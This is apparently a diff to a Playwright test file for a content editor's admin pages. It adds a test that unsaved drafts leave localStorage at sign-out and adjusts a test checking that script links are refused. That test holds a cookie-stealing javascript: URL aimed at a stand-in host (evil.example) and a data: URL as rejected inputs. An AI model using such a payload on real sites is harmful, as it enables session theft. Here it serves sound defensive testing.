@@ -614,6 +614,20 @@ test("an Arabic translator edits Arabic right to left, and cannot change Italian
   }
 });
 
+test("what was typed and not saved leaves the browser at sign-out", async ({ page }) => {
+  await signIn(page, "marketing@foundry.example");
+  await page.goto("/admin/edit/en/not-found");
+  const field = page.locator("input[name^='f.'][type=text], textarea[name^='f.']").first();
+  await field.fill(`${await field.inputValue()} — typed, not saved`);
+  const drafts = () =>
+    page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith("foundry-editor-draft:")));
+  await expect.poll(drafts).not.toEqual([]);
+  page.once("dialog", (dialog) => dialog.accept());
+  await page.getByRole("button", { name: words.signOut }).click();
+  await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.signIn.title);
+  expect(await drafts()).toEqual([]);
+});
+
 test("a link that would run a script is refused at its field, and the file is unchanged", async ({
   page,
 }) => {
@@ -621,12 +635,9 @@ test("a link that would run a script is refused at its field, and the file is un
   await signIn(page, "arabic@foundry.example");
   await page.goto("/admin/edit/ar/contact");
   const before = saved("ar/contact");
-  const href = page.getByLabel(
-    fieldText("contact", ["details", "map", "providerPrivacy", "href"], "en").label,
-    {
-      exact: true,
-    },
-  );
+  const href = page
+    .getByRole("group", { name: fieldText("contact", ["details", "map", "providerPrivacy"], "en").label })
+    .getByLabel(fieldText("contact", ["details", "map", "providerPrivacy", "href"], "en").label);
   for (const address of ["javascript:fetch('//evil.example/'+document.cookie)", "data:text/html,<b>hi</b>"]) {
     await href.fill(address);
     await page.getByRole("button", { name: words.edit.save }).click();
